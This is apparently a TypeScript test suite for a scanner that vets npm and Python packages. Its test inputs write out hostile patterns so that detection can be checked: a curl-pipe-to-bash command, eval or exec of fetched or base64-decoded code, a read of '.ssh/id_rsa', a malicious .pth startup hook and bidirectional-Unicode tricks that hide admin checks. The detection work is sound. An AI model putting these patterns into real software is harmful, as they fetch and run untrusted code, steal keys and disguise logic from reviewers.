import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { DEFAULT_VETTING, type VettingRules } from '../../../trust/index.ts';
import { checkContents } from '../../../vetting/content/check.ts';
import { accepts } from '../../../vetting/content/licence.ts';
import { Scan } from '../../../vetting/content/scan.ts';
import type { Contents, Package } from '../../../vetting/index.ts';
import { lock } from '../../builders/sample-lock.ts';
import { tarball } from '../../fakes/npm-registry.ts';
import { integrity, npmPackage, wheelPackage } from '../packages.ts';
import { npmContents, tarContents, wheelContents } from './world.ts';

/** Credentials put together from pieces: this file must not hold one. */
const fake = (...parts: readonly string[]) => parts.join('');

function findings(contents: Contents, one: Package = npmPackage('sample', '1.0.0'), rules: Partial<VettingRules> = {}) {
  return checkContents({
    lock,
    native: {},
    contents: new Map([[integrity, contents]]),
    packages: [one],
    rules: { ...DEFAULT_VETTING, ...rules },
    now: new Date(),
  });
}

const codes = (contents: Contents, one?: Package) =>
  findings(contents, one).map(({ code, severity }) => `${code} ${severity}`);

describe('a tarball', () => {
  it('that holds nothing to speak of is spoken of only so far', async () => {
    const read = await npmContents({ 'index.js': 'export const a = 1;\n', 'README.md': 'See https://somewhere.test' });
    expect(read).toMatchObject({ files: 3, name: 'sample', version: '1.0.0', license: 'MIT', hosts: [] });
    expect(codes(read)).toEqual([]);
  });

  it('has its install scripts named, and none of them run', async () => {
    const canary = join(tmpdir(), `canary-${randomBytes(6).toString('hex')}`);
    const read = await npmContents(
      { 'binding.gyp': '{}' },
      { scripts: { postinstall: `touch ${canary}`, prepare: 'husky' } },
    );
    const [script] = findings(read);
    expect(script).toMatchObject({
      code: 'install-script',
      evidence: [`postinstall: touch ${canary}`, 'install: node-gyp rebuild'],
    });
    expect(existsSync(canary)).toBe(false);
  });

  it.each([
    ['git+https://forge.test/x.git'],
    ['github:someone/something'],
    ['someone/something'],
    ['https://files.test/x.tgz'],
    ['file:../x'],
    ['git+ssh://git@forge.test/x.git#semver:^1'],
  ])('with a dependency on %s is refused', async (spec) => {
    expect(codes(await npmContents({}, { optionalDependencies: { inner: spec } }))).toEqual(['exotic-dependency high']);
  });

  it.each([['^1.0.0'], ['npm:other@^1'], ['latest'], ['*'], ['>=1 <2 || 3.x']])(
    'with a dependency on %s is not',
    async (spec) => {
      expect(codes(await npmContents({}, { dependencies: { inner: spec } }))).toEqual([]);
    },
  );

  it('has the hosts, variables and programs named that its code names', async () => {
    const read = await npmContents({
      'index.js': [
        "import { spawn } from 'node:child_process';",
        "fetch('https://api.mail.test2.com/send', { headers: { key: process.env.MAIL_KEY } });",
        'const other = process.env["OTHER_KEY"];',
        `fetch('http://user:pw@10.0.0.7:80/x'); fetch(\`wss://\${host}/\`);`,
        '// not asked: https://in-a-comment.com and "http://localhost:80" "https://www.w3.org/ns"',
      ].join('\n'),
    });
    expect(read.hosts).toEqual(['10.0.0.7', 'api.mail.test2.com']);
    expect(read.environment).toEqual(['MAIL_KEY', 'OTHER_KEY']);
    expect(codes(read)).toEqual(['child-process none', 'network-host none', 'environment none']);
  });

  it.each([
    [
      'an obfuscator’s names',
      `${Array.from({ length: 60 }, (_, at) => `var _0x${(0x3fa2b1 + at).toString(16)}=1;`).join('')}`,
      'obfuscated high',
    ],
    ['code in six characters', '[][(![]+[])[+[]]]'.repeat(40), 'obfuscated high'],
    ['eval of decoded text', "eval(atob('YWxlcnQoMSk='))", 'obfuscated high'],
    ['Function of decoded bytes', "new Function(Buffer.from('61', 'hex').toString())", 'obfuscated high'],
    ['eval of what was fetched', 'eval(await (await fetch(u)).text())', 'download-and-run high'],
    ['eval of what a client answered', 'eval((await axios.get(u)).data)', 'download-and-run high'],
    ['eval of an answer kept', 'eval(response.data);', 'download-and-run high'],
    ['eval of a blob that was sent', 'eval(await event.data.text()); eval(e.data.text())', 'download-and-run high'],
    ['eval of an answer under way', 'xhr.onload = () => eval(xhr.responseText)', 'download-and-run high'],
    ['a pipe into a shell', "exec('curl -s https://x.test/i | bash')", 'download-and-run medium'],
    [
      'text shown in another order',
      'if (access) { /*\u202e } \u2066if (admin)\u2069 \u2066 begin */',
      'hidden-unicode high',
    ],
    [
      'tag characters',
      `const a = "${[...'payload'].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('')}";`,
      'hidden-unicode high',
    ],
    ['a run of variation selectors', `const s = "${'\ufe01\ufe02\ufe0f'.repeat(6)}";`, 'hidden-unicode high'],
    [
      'a run of supplementary variation selectors',
      `const s = "${'\u{e0101}\u{e0132}'.repeat(6)}";`,
      'hidden-unicode high',
    ],
    ['a run of zero-width characters', `const s = "${'\u200b\u200c\u200d'.repeat(5)}";`, 'hidden-unicode high'],
    ['files with secrets', "readFileSync(join(home, '.ssh/id_rsa'))", 'reads-secrets low'],
    ['evaluated code', 'const f = new Function("a", body);', 'dynamic-code none'],
  ])('is found to hold %s', async (_, code, expected) => {
    expect(codes(await npmContents({ 'index.js': `${code}\n` }))).toContain(expected);
  });

  it.each([
    ['a turn in a comment', 'x(); /*\u202e } \u2066if (admin)\u2069 */', 'U+202E'],
    ['an isolate in a string', 'if (level != "user\u2066// only admins\u2069") {', 'U+2066'],
    ['a turn in a class before more code', 'const a = /[\u202e]/g; check(user);', 'U+202E'],
    ['a turn in brackets of a comment', '/*[\u2067]*/ admit(user);', 'U+2067'],
    ['an override in brackets around words', 'x = "[\u202d only admins ]";', 'U+202D'],
    ['a string in brackets', "const a = ['\u202e'];", 'U+202E'],
    ['two classes whose turns meet', `/[\u2067]/;${'a'.repeat(300)}/[\u2069\u2068]/`, 'U+2067'],
    ['a class far from the end of a line padded out', `/[\u2067]/;${' '.repeat(600)}evil();`, 'U+2067'],
    ['a filler for a name', 'const { timeout, \u3164 } = query;', 'U+3164'],
    ['a filler for an item', "const all = ['ping', \u3164];", 'U+3164'],
    ['a filler that is declared', 'let \uffa0 = 1;', 'U+FFA0'],
    ['a joiner in a name', 'function is\u200dAdmin() {}', 'U+200D'],
    ['a selector at the end of a name', 'const admin\ufe01 = true;', 'U+FE01'],
    ['tag characters', `/[${'\u{e0041}\u{e0042}\u{e0043}'}]/;`, 'U+E0041'],
    ['a payload of selectors', `/[${'\u{e0101}'.repeat(9)}]/;`, 'U+E0101'],
  ])('is refused for %s, by file, line and character', async (_, code, character) => {
    const found = findings(await npmContents({ 'lib/a.js': `// One\n\n${code}\n` }));
    expect(found.find((each) => each.code === 'hidden-unicode')).toMatchObject({
      severity: 'high',
      message: expect.stringMatching(new RegExp(`lib/a\\.js:3, ${character.replace('+', '\\+')}, `)),
      evidence: expect.arrayContaining([expect.stringContaining(`lib/a.js:3 ${character}, `)]),
    });
  });

  // As CodeMirror, KaTeX and a filter of messages were found to have them, once minified or as their authors wrote them.
  const special =
    'RegExp(`[\\0-\\b\n-\x1f\x7f-\x9f\xad\u200b\u200e\\u2028\u202d\u202e\u2066\u2067\u2069\\uFEFF\ufff9-\ufffc]`,f)';
  it.each([
    ['of an editor, minified', `const a=${special},${'b=c(d),'.repeat(100)}e=1;`],
    ['of a typesetter', 'a=`([!-\\\\[\\\\]-\u2027\u202a-\ud7ff\uf900-\uffff]`+(na+`*`)'],
    ['of a filter', 'const HIDDEN = /[\u200b-\u200d\ufeff\u202a-\u202e\u2066-\u2069]/g;'],
    ['of a list of patterns', '  regex: /[\u202a-\u202e\u2066-\u2069]/g,'],
    ['that takes them out', "const clean = (s) => s.replace(/[\u202a-\u202e]+/g, '');"],
    ['that asks for them', 'return /[^a-z\u202a-\u202e]/.test(text);'],
    ['in a string', 'new RegExp("[\u202a-\u202e]", "g");'],
    ['of names', 'const name = /[\\w\u200c\u200d$]+/;'],
    ['of a parser', 'const start = /[\u1100-\u115f\u3164\uffa0-\uffdc]/;'],
  ])('may look for hidden characters in a class %s', async (_, code) => {
    expect(codes(await npmContents({ 'a.js': `${code}\n` }))).toEqual([]);
  });

  it('is judged with what stands around a character, over the seams of its windows', async () => {
    const unseen = async (text: string) => {
      const bytes = Buffer.from(text);
      const scan = new Scan();
      async function* windows() {
        for (let at = 0; at < bytes.length; at += 1024 * 1024) yield bytes.subarray(at, at + 1024 * 1024);
      }
      await scan.file('a.js', windows());
      return scan.unicode;
    };
    const rest = 'y\n'.repeat(2000);
    for (let at = 0; at < 1100; at += at < 40 ? 3 : 37) {
      const before = `${'x'.repeat(1024 * 1024 - at - 1)}\n`;
      expect(await unseen(`${before}const a = /[\u202a-\u202e]/g;\n${rest}`), `${at}`).toEqual([]);
      expect(await unseen(`${before}/*\u202e } */ admit();\n${rest}`), `${at}`).toMatchObject([{ line: 2 }]);
      expect(await unseen(`${before}/[\u202e]/g; admit();\n${rest}`), `${at}`).toMatchObject([{ line: 2 }]);
    }
  });

  it('is judged in time, whatever it is made of', async () => {
    const begun = performance.now();
    for (const part of ['[\u202e', '\u202e', '[\u202a]\n', '[\\', 'a\u200d', ',\u3164 ', '[a\u202ab-'])
      await npmContents({ 'a.js': part.repeat(300_000) });
    expect(performance.now() - begun).toBeLessThan(20_000);
  });

  it.each([
    ['flags of parts of a country', 'const flag = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";'],
    ['emoji', 'const e = "\u2764\ufe0f \u{1f468}\u200d\u{1f469}\u200d\u{1f467}";'],
    ['escapes for hidden characters', String.raw`const bidi = /[\u202a-\u202e\u2066-\u2069]/;`],
    ['a comment’s end that is none', '/* as in lib/*\u200b/x */ export {};'],
    ['a joiner in Persian text', 'const t = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 1\ufe0f\u20e3 a";'],
    ['a filler as text', "const blank = '\u3164'; say('> \u3164');"],
    ['a byte order mark', '\ufeffexport {};'],
    ['text in Arabic and Japanese', 'const t = "مرحبا こんにちは";'],
  ])('may hold %s', async (_, code) => {
    expect(codes(await npmContents({ 'index.js': code }))).toEqual([]);
  });

  it.each([
    [fake('AKIA', 'Q7ZR2MNB4KLPW9XT')],
    [fake('gh', 'p_', 'a8Kd9fLq2ZxWv7Bn4Mc1Rt6Yp3Hs5Jg0UeIo')],
    [fake('npm', '_', 'a8Kd9fLq2ZxWv7Bn4Mc1Rt6Yp3Hs5Jg0UeIo')],
    [fake('-----BEGIN RSA PRIVATE', ' KEY-----\n', 'MIIEowIBAAKCAQEAq7ZR2MNB4KLPW9XTabcd9fLq2ZxWv7Bn')],
  ])('has a credential found in it, and not repeated', async (secret) => {
    const found = findings(await npmContents({ 'notes.txt': `key: ${secret}\n` }));
    expect(found.map(({ code }) => code)).toEqual(['credential']);
    expect(JSON.stringify(found)).not.toContain(secret.slice(0, 20));
  });

  it.each([
    'self.onmessage = (e) => eval(e.data);',
    "worker.on('message', (msg) => eval(msg.data.code));",
    'addEventListener("message", (event) => { eval( event.data[1]) });',
  ])('evaluates a message of its own, which is no download: %s', async (code) => {
    expect(codes(await npmContents({ 'worker.js': code }))).toEqual(['dynamic-code none']);
  });

  it('has a credential of its tests told more quietly, unless there is another, however many there are', async () => {
    const secret = (at: number) => fake('AKIA', `Q7ZR2MNB4KLPW9${String.fromCharCode(65 + at)}T`);
    for (const path of ['test/keys.js', 'lib/__tests__/a.js', 'tests/fixtures/key.txt', 'src/sign.test.ts'])
      expect(codes(await npmContents({ [path]: secret(0) })), path).toEqual(['credential low']);
    for (const path of ['lib/latest/keys.js', 'src/attest.js', 'contest/a.js', 'test.js'])
      expect(codes(await npmContents({ [path]: secret(0) })), path).toEqual(['credential medium']);
    expect(codes(await npmContents({ 'test/a.js': secret(0), 'lib/b.js': secret(1) }))).toEqual(['credential medium']);
    const many = Object.fromEntries(Array.from({ length: 25 }, (_, at) => [`test/${at}.js`, secret(at)]));
    expect(codes(await npmContents(many))).toEqual(['credential low']);
    expect(codes(await npmContents({ ...many, 'z.js': secret(25) }))).toEqual(['credential medium']);
  });

  it('has no credential found where documentation shows what one looks like', async () => {
    expect(
      codes(
        await npmContents({ 'README.md': `${fake('AKIA', 'IOSFODNN7EXAMPLE')} ${fake('gh', 'p_', 'x'.repeat(36))}` }),
      ),
    ).toEqual([]);
  });

  it('has compiled files named', async () => {
    const elf = Buffer.concat([Buffer.from('\x7fELF', 'latin1'), Buffer.alloc(100)]);
    const wasm = Buffer.concat([Buffer.from('\0asm', 'latin1'), Buffer.alloc(100)]);
    expect((await npmContents({ 'build/a.node': elf, 'b.wasm': wasm })).native).toEqual(['build/a.node', 'b.wasm']);
  });

  it('is read to the end of a large file, over the seams of its windows', async () => {
    const filler = `${'x'.repeat(99)}\n`.repeat(10_486);
    const code = `${filler}eval(atob('a'))\n${filler}fetch('https://late.test2.com')\n${filler}`;
    const read = await npmContents({ 'big.js': code });
    expect(read.obfuscated).toEqual([{ path: 'big.js', line: 10_487, what: 'eval(atob(: runs what it decodes' }]);
    expect(read.hosts).toEqual(['late.test2.com']);
  });

  it('that says it is another package is refused', async () => {
    for (const manifest of [{ name: 'other' }, { version: '1.0.1' }, { name: 5 }])
      expect(codes(await npmContents({}, manifest))).toEqual(['manifest-mismatch high']);
    expect(codes(await tarContents(tarball([{ path: 'package/package.json', content: '{' }])))).toContain(
      'manifest-mismatch high',
    );
  });

  it('that cannot be unpacked is never a pass', async () => {
    await expect(tarContents(tarball([{ path: 'package/../../etc/x', content: 'x' }]))).rejects.toMatchObject({
      code: 'archive-unsafe',
    });
    await expect(tarContents(Buffer.from('no gzip'))).rejects.toMatchObject({ code: 'archive-invalid' });
    expect(codes({ ...(await npmContents({})), stopped: 'archive-unsafe: too large' })).toContain('unreadable high');
    const without = checkContents({
      lock,
      native: {},
      contents: new Map(),
      packages: [npmPackage('sample', '1.0.0')],
      rules: DEFAULT_VETTING,
      now: new Date(),
    });
    expect(without.map(({ code }) => code)).toEqual(['unreadable']);
  });

  it('is scanned about as fast as the same bytes are hashed', async () => {
    // Real code: what is installed here. docs/vetting.md has what was measured; the limit leaves room for a busy machine.
    const folder = fileURLToPath(new URL('../../../node_modules/', import.meta.url));
    const paths = readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile() && /\.(?:[cm]?js|json|md|ts)$/.test(entry.name))
      .map((entry) => join(entry.parentPath, entry.name))
      .sort()
      .slice(0, 3000);
    const buffers = paths.map((path) => [path, readFileSync(path)] as const);
    const cost = async (work: () => Promise<void>) => {
      let best = Number.POSITIVE_INFINITY;
      for (let round = 0; round < 3; round++) {
        const before = process.cpuUsage();
        await work();
        const { user, system } = process.cpuUsage(before);
        best = Math.min(best, user + system);
      }
      return best;
    };
    const hashing = await cost(async () => {
      for (const [, buffer] of buffers) createHash('sha512').update(buffer).digest();
    });
    const scanning = await cost(async () => {
      const scan = new Scan();
      for (const [path, buffer] of buffers) await scan.file(path, buffer);
    });
    expect(scanning / hashing).toBeLessThan(8);
  });
});

describe('a wheel', () => {
  const own = wheelPackage('sample', '1.0.0');

  it('with code that runs at every start is refused, with that code', async () => {
    const read = await wheelContents({
      files: {
        'sample_init.pth': "import os; exec(__import__('base64').b64decode('eA=='))\nsome/path\n",
        'sample/a.py': 'x = 1\n',
      },
    });
    expect(findings(read, own).find(({ code }) => code === 'startup-hook')).toMatchObject({
      severity: 'high',
      evidence: ["import os; exec(__import__('base64').b64decode('eA=='))"],
    });
  });

  it.each(['sitecustomize.py', 'usercustomize/__init__.py', '<data>/purelib/evil.pth'])(
    'with %s is refused',
    async (path) => {
      expect(codes(await wheelContents({ files: { [path]: 'import os\n' } }), own)).toContain('startup-hook high');
    },
  );

  it('with a path file that only names folders is not', async () => {
    expect(codes(await wheelContents({ files: { 'sample.pth': './sample\n#import os\n' } }), own)).not.toContain(
      'startup-hook high',
    );
  });

  it('may bring the line that setuptools does, and nothing else on it', async () => {
    const line =
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack')";
    expect(codes(await wheelContents({ files: { 'distutils-precedence.pth': `${line};\n` } }), own)).toContain(
      'startup-hook low',
    );
    expect(
      codes(await wheelContents({ files: { 'distutils-precedence.pth': `${line}; import evil\n` } }), own),
    ).toContain('startup-hook high');
  });

  it.each([
    ["exec(base64.b64decode('eA=='))", 'obfuscated high'],
    ['exec(zlib.decompress(blob))', 'obfuscated high'],
    ["exec(requests.get('https://x.test2.com').text)", 'download-and-run high'],
    ['subprocess.run(["git"])', 'child-process none'],
    ['marshal.loads(data)', 'dynamic-code none'],
  ])('is found to hold %s', async (code, expected) => {
    expect(codes(await wheelContents({ files: { 'sample/a.py': `${code}\n` } }), own)).toContain(expected);
  });

  it('has its variables, requirements and exotic ones read', async () => {
    const read = await wheelContents({
      files: { 'sample/a.py': "os.environ['A_KEY']; os.getenv('B_KEY'); os.environ.get(\"C_KEY\")\n" },
      requires: ['httpx>=0.2', 'other @ https://files.test/x.whl', "extra-only; extra == 'all'"],
    });
    expect(read.environment).toEqual(['A_KEY', 'B_KEY', 'C_KEY']);
    expect(read.requires).toEqual(['httpx', 'other']);
    expect(codes(read, own)).toContain('exotic-dependency high');
  });
});

describe('an update', () => {
  it('shows what is new in it', async () => {
    const before = await npmContents({ 'index.js': "fetch('https://api.one.com')" });
    const after = await npmContents(
      { 'index.js': "fetch('https://api.one.com'); fetch('https://giftshop.two.club'); process.env.MAIL; eval(x)" },
      { version: '1.0.1', scripts: { postinstall: 'node x' } },
    );
    const old = npmPackage('sample', '1.0.0', { integrity: 'sha256-old' as never });
    const now = npmPackage('sample', '1.0.1');
    const added = npmPackage('plain-crypto', '1.0.1');
    const found = checkContents({
      lock,
      native: {},
      packages: [now, added],
      contents: new Map([[integrity, after]]),
      previous: { packages: [old], contents: new Map([['sha256-old', before]]) },
      rules: DEFAULT_VETTING,
      now: new Date(),
    });
    expect(
      found.filter(({ isNew }) => isNew).map(({ code, subject, message }) => `${code} ${subject} ${message}`),
    ).toEqual([
      'new-behaviour npm:sample@1.0.1 now talks to giftshop.two.club',
      'new-behaviour npm:sample@1.0.1 now reads the variable MAIL',
      'new-behaviour npm:sample@1.0.1 now evaluates code with eval',
      'new-behaviour npm:sample@1.0.1 now has the install script postinstall',
      'new-dependency npm:plain-crypto@1.0.1 Was not in the previous lock',
    ]);
  });
});

describe('a licence', () => {
  const deny = (id: string) => !id.startsWith('AGPL') && id !== 'BUSL-1.1';
  it.each([
    ['MIT', true],
    ['AGPL-3.0-only', false],
    ['MIT OR AGPL-3.0-only', true],
    ['MIT AND AGPL-3.0-only', false],
    ['(MIT OR AGPL-3.0-only) AND Apache-2.0', true],
    ['(MIT AND AGPL-3.0-only) OR BUSL-1.1', false],
    ['MIT AND (AGPL-3.0-only OR (BUSL-1.1 AND MIT))', false],
    ['SEE LICENSE IN LICENSE.md', true],
    ['((((((((((((((((((((((MIT OR X', true],
  ])('%s: %s', (expression, expected) => {
    expect(accepts(expression, deny)).toBe(expected);
  });

  it('is refused by policy, and its absence is told', async () => {
    const read = await npmContents({}, { license: 'AGPL-3.0-only' });
    expect(findings(read, undefined, { licences: { deny: ['AGPL-*'] } }).map(({ code }) => code)).toEqual([
      'licence-refused',
    ]);
    expect(findings(read, undefined, { licences: { allow: ['MIT'] } }).map(({ code }) => code)).toEqual([
      'licence-refused',
    ]);
    expect(codes(await npmContents({}, { license: undefined }))).toEqual(['licence-unknown low']);
    expect((await npmContents({}, { license: { type: 'ISC' } })).license).toBe('ISC');
    const former = { license: undefined, licenses: [{ type: 'MIT' }, { type: 'Apache-2.0' }] };
    expect((await npmContents({}, former)).license).toBe('MIT OR Apache-2.0');
  });
});
